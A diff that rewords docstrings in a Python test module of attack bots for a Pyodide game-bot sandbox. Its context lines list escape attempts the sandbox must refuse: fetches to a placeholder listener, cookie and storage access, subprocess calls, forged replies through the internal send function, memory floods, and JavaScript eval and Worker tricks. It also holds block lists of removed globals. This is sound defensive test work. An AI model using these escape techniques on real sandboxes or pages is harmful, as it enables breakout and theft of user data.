@@ -1,11 +1,11 @@
-"""Attacks on the sandbox: bots, and JavaScript for the case that a bot gets hold of all there is in its worker.
+"""Attacks on the sandbox: bots, and JavaScript in case a bot takes over its whole worker.
 
-Each attack that would get something says `GOT`, in what it prints or returns. `LISTENER` stands for the address of a server that
-nobody may reach, `SITE` for that of the site.
+An attack that succeeds prints or returns `GOT`. `LISTENER` stands for the address of a server that must not be reached, `SITE`
+for the site's.
 """
 
 PLAY = "\ndef choose(game):\n    return game.legal_actions()[0]\n"
-"""What a bot goes on with after an attack at its start."""
+"""How a bot plays on after an attack at its start."""
 
 TELL = """
 import gc, json
@@ -14,16 +14,16 @@ sandbox = next(thing for thing in gc.get_objects() if type(thing) is SandboxWork
 tell = sandbox._send
 fields = {"id": sandbox._id, "games": [], "playing": None, "print": "", "move": "", "end": None}
 """
-"""Gets hold of the function that sends a sandbox's replies, past everything that bounds them inside."""
+"""Finds the function that sends a sandbox's replies, bypassing all its limits."""
 
 
 def tries(code: str) -> str:
-    """Return a bot that tries something at its start, tells how it went, and plays on."""
+    """Return a bot that tries something at its start, prints the outcome, and plays on."""
     return tries_all({"it": code})
 
 
 def tries_all(codes: dict[str, str]) -> str:
-    """Return a bot that tries one thing after the other at its start, tells how each went, and plays on."""
+    """Return a bot that tries several things at its start, prints each outcome, and plays on."""
     parts = []
     for name, code in codes.items():
         body = "".join(f"    {line}\n" for line in code.strip().splitlines())
@@ -32,23 +32,23 @@ def tries_all(codes: dict[str, str]) -> str:
 
 
 def chooses(code: str) -> str:
-    """Return a bot that does something at each move and then plays on."""
+    """Return a bot that runs code before each move."""
     body = "".join(f"    {line}\n" for line in code.strip().splitlines())
     return f"def choose(game):\n{body}    return game.legal_actions()[0]\n"
 
 
 def replies(code: str) -> str:
-    """Return a bot that sends replies of its own making."""
+    """Return a bot that forges replies."""
     return TELL + code.strip() + PLAY
 
 
 def ends(reason: str, facts: str) -> str:
-    """Return the code of a reply that ends a question with a failure."""
+    """Return the code of a reply that ends a request with a failure."""
     return f"tell(json.dumps({{**fields, 'end': {{'reason': '{reason}', 'line': 1, 'facts': {facts}}}}}))"
 
 
 LIBRARY = b"\0asm\x01\0\0\0" + b"\0\x0f\x08dylink.0\x01\x04\0\0\0\0" + b"\x05\x03\x01\0\x01"
-"""A library in WebAssembly that does nothing and has memory."""
+"""A WebAssembly library that only allocates memory."""
 
 DONE = ("done",)
 SLOW = ("bot-slow",)
@@ -56,7 +56,7 @@ FAULT = ("bot-fault",)
 NONSENSE = ("bot-nonsense",)
 NOISE = ("bot-noise",)
 DEAD = ("bot-died", "bot-deep", "bot-memory", "bot-fault")
-"""How a run may end whose interpreter breaks: it depends on the browser which limit is met first."""
+"""How a run may end if its interpreter breaks: which limit is hit first depends on the browser."""
 
 CURIOUS: dict[str, str] = {
     # The network
@@ -67,7 +67,7 @@ CURIOUS: dict[str, str] = {
     "install-a-package": "import micropip",
     "load-a-package": "import pyodide_js\npyodide_js.loadPackage('LISTENER/a.whl')",
     "run-javascript": "from pyodide.code import run_js\nprint(run_js('fetch(\"LISTENER\")'))",
-    # The page and what it keeps
+    # The page and its storage
     "document": "from js import document\nprint(document.cookie)",
     "parent": "from js import parent\nparent.document",
     "storage": "from js import localStorage\nlocalStorage.setItem('tilelab.settings', 'x')",
@@ -77,7 +77,7 @@ CURIOUS: dict[str, str] = {
     "processes": "import subprocess\nsubprocess.run(['ls'])",
     "javascript-by-its-constructor": f"{TELL.strip()}\ntell.constructor('return 1')()",
 }
-"""What must be refused, whatever else the same bot has tried."""
+"""Attempts that must be refused, whatever else the same bot has tried."""
 
 BOTS: dict[str, dict[str, tuple[str, tuple[str, ...]]]] = {
     "time": {
@@ -96,7 +96,7 @@ BOTS: dict[str, dict[str, tuple[str, tuple[str, ...]]]] = {
     "depth": {
         "recursion": ("def choose(game):\n    return choose(game)\n", FAULT),
         "deep-recursion": ("import sys\nsys.setrecursionlimit(10**9)\ndef choose(game):\n    return [choose(game)]\n", DEAD),
-        # Python's own bound is met first where the browser gives the worker a larger stack, as Firefox does.
+        # If the browser gives the worker a larger stack, as Firefox does, Python's own limit is hit first.
         "recursion-in-c": (
             "from functools import partial\ndef choose(game):\n    return partial(choose, game)()\n",
             ("bot-deep", *FAULT),
@@ -193,7 +193,7 @@ tell(json.dumps({**fields, "games": [{**record, "milestones": milestones}]}))"""
         ),
     },
 }
-"""Bots by what they attack, and how the run of each may end. The bots of a kind are in the order in which slices take them."""
+"""Bots by what they attack, with the possible ends of a run. Slices take the bots of a kind in this order."""
 
 FLOODS: dict[str, str] = {
     "silence": "print('begun')\n" + chooses("while True:\n    pass"),
@@ -211,7 +211,7 @@ for number in range(10**9):
         pass"""
     ),
 }
-"""Bots that say `begun`, then never return and keep the page busy, without sending more than they may."""
+"""Bots that print `begun`, then never return and keep the page busy without exceeding the output limit."""
 
 MEMORY: dict[str, str] = {
     "buffers": "() => new ArrayBuffer(2 ** 24)",
@@ -224,7 +224,7 @@ MEMORY: dict[str, str] = {
     "texts-as-bytes": "(() => { const text = 'x'.repeat(2 ** 24); return () => new TextEncoder().encode(text); })()",
     "texts": "() => 'x'.repeat(2 ** 24)",
 }
-"""Functions that take 2 to 16 MiB of memory outside Python's heap, in the worker of a sandbox, at each call."""
+"""Functions that allocate 2 to 16 MiB outside Python's heap, in a sandbox's worker, at each call."""
 
 GONE = (
     "Blob",
@@ -248,10 +248,10 @@ GONE = (
     "Uint8Array.prototype.toSorted",
     "String.prototype.padEnd",
 )
-"""What takes memory or leads out, and is no more in the worker of a sandbox."""
+"""Globals that allocate memory or lead out; they are removed from a sandbox's worker."""
 
 FRAME_GONE = ("RTCPeerConnection", "webkitRTCPeerConnection", "WebSocket", "WebTransport", "XMLHttpRequest", "fetch")
-"""What leads out, and is no more in the frame of a sandbox; no policy of every browser covers the first."""
+"""Globals that lead out; they are removed from a sandbox's frame. Not every browser's policy covers the first one."""
 
 JAVASCRIPT: dict[str, str] = {
     "fetch": "(await fetch('LISTENER')).status",
@@ -270,7 +270,7 @@ JAVASCRIPT: dict[str, str] = {
     "import-scripts": "importScripts('LISTENER/a.js')",
     "worker": "new Worker(URL.createObjectURL(new Blob(['1'])))",
     "shared-worker": "new SharedWorker('SITE')",
-    # In a timer, because what a driver evaluates by itself is under no policy.
+    # In a timer, because code that a driver evaluates directly is exempt from the policy.
     "eval": "new Promise((yes, no) => setTimeout(() => { try { yes(eval('1')); } catch { no('refused'); } }))",
     "function": "new Promise((yes, no) => setTimeout(() => { try { yes(Function('return 1')()); } catch { no('refused'); } }))",
     "timer-with-text": """new Promise((yes, no) => {
@@ -286,4 +286,4 @@ JAVASCRIPT: dict[str, str] = {
     "font": "new FontFace('x', 'url(LISTENER)').load()",
     "transport": "new WebTransport('LISTENER'.replace('http', 'https')).ready",
 }
-"""Expressions; each must fail, when run in a worker of a sandbox as if a bot had broken out of Python."""
+"""Expressions that must all fail in a sandbox's worker, as if a bot had broken out of Python."""
